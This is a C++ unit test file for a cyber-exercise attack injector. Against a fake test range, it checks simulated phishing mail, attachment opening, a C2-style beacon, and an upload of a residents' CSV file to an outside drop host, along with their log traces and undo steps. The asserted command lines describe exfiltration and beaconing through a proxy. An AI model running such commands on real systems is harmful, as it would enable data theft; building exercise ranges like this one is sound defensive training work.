#include "injector/actions/act.h"

#include "scenario-dsl/attack/traces.h"
#include "scenario-dsl/model/step_names.h"
#include "scenario-dsl/source/digest.h"
#include "tests/support/fake_range.h"
#include "tests/support/first_light.h"
#include "tests/support/temp_directory.h"

#include <gtest/gtest.h>

namespace enshu::inject {
namespace {

class ActionsTest : public testing::Test {
  protected:
    ActContext context(const char *step) {
        return {scenario_,
                *scenario_.find_step(step),
                1,
                [this](const std::string &host) -> GuestChannel & { return range_.guest(host); },
                stop_.get_token(),
                dsl::Milliseconds(30),
                dsl::Milliseconds(1)};
    }
    bool ran(const std::string &command) const {
        for (const std::string &line : range_.commands())
            if (line.find(command) != std::string::npos)
                return true;
        return false;
    }
    std::string failure(const char *step) {
        try {
            perform(context(step));
        } catch (const ActFailed &error) {
            return error.what();
        }
        return "";
    }

    test::TempDirectory directory_;
    dsl::Scenario scenario_ = test::first_light(directory_.path());
    test::FakeRange range_{{"fw", "gate", "pc-suzuki", "attacker"}};
    std::stop_source stop_;
};

TEST_F(ActionsTest, AMailIsSentFromTheAttackersHostAndFoundInTheMailbox) {
    const auto evidence = perform(context("phish"));
    EXPECT_EQ(evidence["to"], "suzuki@city.hinode.example");
    EXPECT_EQ(evidence["host"], "gate");
    EXPECT_EQ(evidence["file"], "/home/suzuki/Maildir/new/1.gate");
    EXPECT_EQ(evidence["sha256"], dsl::sha256_hex("お見積書 an estimate\n"));
    EXPECT_TRUE(ran("attacker: /usr/bin/curl"));
    EXPECT_TRUE(
        ran("smtp://203.0.113.25:25/supplier.example --mail-from taro@supplier.example --mail-rcpt "
            "suzuki@city.hinode.example"));
    const std::string eml =
        range_.guest("attacker").read("/run/enshu/outgoing-phish.eml", dsl::Milliseconds(1));
    EXPECT_NE(eml.find("Date: Sat, 21 Nov 2026 12:00:00 +0900\r\n"), std::string::npos)
        << "the guest's clock";
}

TEST_F(ActionsTest, AMailThatDoesNotArriveIsAFailureWithAReason) {
    scenario_.organization.people[0].account = "nobody";
    class Blind : public GuestChannel {
      public:
        explicit Blind(GuestChannel &real) : real_(real) {}
        RunResult run(const std::vector<std::string> &argv, const std::string &input,
                      std::chrono::milliseconds deadline) override {
            if (argv[0] == "/usr/bin/grep")
                return {1, "", "", false};
            return real_.run(argv, input, deadline);
        }
        std::string read(const std::string &, std::chrono::milliseconds) override { return ""; }
        void write(const std::string &path, const std::string &content,
                   std::chrono::milliseconds deadline) override {
            real_.write(path, content, deadline);
        }

      private:
        GuestChannel &real_;
    } blind(range_.guest("attacker"));
    ActContext act = context("phish");
    act.guest = [&](const std::string &) -> GuestChannel & { return blind; };
    try {
        perform(act);
        FAIL();
    } catch (const ActFailed &error) {
        EXPECT_NE(std::string(error.what()).find("not in the mailbox of `nobody`"),
                  std::string::npos);
    }
}

TEST_F(ActionsTest, TheAttachmentIsOpenedAndIsTheOneThatWasSent) {
    EXPECT_NE(failure("open").find("no mail with that id"), std::string::npos);
    perform(context("phish"));
    const auto evidence = perform(context("open"));
    EXPECT_EQ(evidence["sha256"], dsl::sha256_hex("お見積書 an estimate\n"));
    EXPECT_EQ(evidence["file"], "/home/suzuki/Downloads/estimate.txt");
    EXPECT_TRUE(ran("open-attachment --message-id " + message_id(scenario_.attack[0], 1)));
}

TEST_F(ActionsTest, AnotherFileThanTheOneSentIsAFailure) {
    perform(context("phish"));
    std::ofstream(directory_.path() / "estimate.txt") << "changed";
    EXPECT_NE(failure("open").find("is not the one that was sent"), std::string::npos);
}

TEST_F(ActionsTest, ABeaconRunsAsTheUserThroughTheProxy) {
    perform(context("beacon"));
    EXPECT_TRUE(ran("pc-suzuki: /usr/bin/systemd-run --quiet --collect --uid=suzuki "
                    "--unit=" +
                    dsl::unit_of("beacon") +
                    " /usr/lib/enshu/actor beacon --url "
                    "http://198.51.100.66/news/update --min-ms 4000 --max-ms 7000"));
    EXPECT_TRUE(ran("--proxy 203.0.113.25:3128"));
    EXPECT_EQ(range_.beacons(), 1U);
    perform(context("beacon"));
    EXPECT_EQ(range_.beacons(), 1U) << "doing it again is harmless";
    undo(context("beacon"));
    EXPECT_EQ(range_.beacons(), 0U);
    undo(context("beacon"));
}

TEST_F(ActionsTest, AStepsIdStandsInNoWordThatAGuestIsGiven) {
    perform(context("beacon"));
    for (const std::string &line : range_.commands())
        EXPECT_EQ(line.find("enshu-beacon"), std::string::npos) << line;
    EXPECT_EQ(dsl::unit_of("beacon").size(), std::string("enshu-").size() + 8);
    EXPECT_NE(dsl::unit_of("beacon"), dsl::unit_of("beacon-2"));
}

TEST_F(ActionsTest, AnUploadGoesToAPathDerivedFromItsStep) {
    const auto evidence = perform(context("exfil"));
    EXPECT_EQ(evidence["bytes"], 9);
    EXPECT_TRUE(ran("pc-suzuki: /usr/bin/setpriv --reuid=suzuki --regid=suzuki --init-groups -- "
                    "/usr/lib/enshu/actor upload --url "
                    "http://198.51.100.66" +
                    dsl::upload_path("exfil") +
                    " --proxy 203.0.113.25:3128 --key - --file "
                    "/home/suzuki/Documents/residents.csv"));
    EXPECT_EQ(dsl::upload_path("exfil").size(), std::string("/drop/").size() + 8);
    EXPECT_NE(dsl::upload_path("exfil"), dsl::upload_path("exfil-2"));
}

TEST_F(ActionsTest, AnUploadWithoutANetworkFailsWithTheProgramsOwnWords) {
    range_.set_cable("pc-suzuki", false);
    EXPECT_NE(failure("exfil").find("ended with 4: actor: connect: No route to host"),
              std::string::npos);
}

TEST_F(ActionsTest, AGuestThatIsGoneIsAGuestError) {
    range_.lose("pc-suzuki");
    EXPECT_THROW(perform(context("beacon")), GuestError);
}

TEST_F(ActionsTest, AStoppedActHasNoOutcome) {
    stop_.request_stop();
    for (const char *step : {"phish", "open", "beacon", "exfil"})
        EXPECT_THROW(perform(context(step)), ActStopped) << step;
    EXPECT_TRUE(range_.commands().empty());
}

TEST_F(ActionsTest, WhatAnActDidIsWhereItsTracesAreSaidToBe) {
    const dsl::Network network{scenario_.organization};
    const dsl::Index steps{scenario_.attack};
    const auto traces = [&](const char *step) {
        return dsl::traces_of(*scenario_.find_step(step), steps, network);
    };
    const auto is_left = [&](const char *step, const std::string &where,
                             const std::string &holding) {
        for (const dsl::Trace &trace : traces(step))
            if (where.starts_with(trace.where) && holding.find(trace.pattern) != std::string::npos)
                return true;
        return false;
    };
    const auto mail = perform(context("phish"));
    const std::string sent =
        range_.guest("attacker").read("/run/enshu/outgoing-phish.eml", dsl::Milliseconds(1));
    EXPECT_TRUE(is_left("phish", mail["file"], sent));
    const auto opened = perform(context("open"));
    EXPECT_TRUE(is_left("open", opened["file"], opened["file"]));
    const auto beacon = perform(context("beacon"));
    EXPECT_TRUE(is_left("beacon", "journal", beacon["unit"]));
    EXPECT_TRUE(is_left("beacon", "/var/log/squid/access.log", beacon["url"]));
    const auto upload = perform(context("exfil"));
    EXPECT_TRUE(
        is_left("exfil", "/var/log/squid/access.log", "PUT " + upload["url"].get<std::string>()));
    EXPECT_FALSE(is_left("exfil", "/var/log/squid/access.log", beacon["url"]));
}

TEST_F(ActionsTest, AMailThatWasTakenBackCanNoLongerBeOpened) {
    perform(context("phish"));
    perform(context("open"));
    undo(context("open"));
    undo(context("phish"));
    EXPECT_TRUE(ran("pc-suzuki: /usr/bin/rm -f -- /home/suzuki/Downloads/estimate.txt"));
    EXPECT_TRUE(ran("gate: /usr/bin/rm -f -- /home/suzuki/Maildir/new/1.gate"));
    EXPECT_NE(failure("open").find("no mail with that id"), std::string::npos);
}

} // namespace
} // namespace enshu::inject
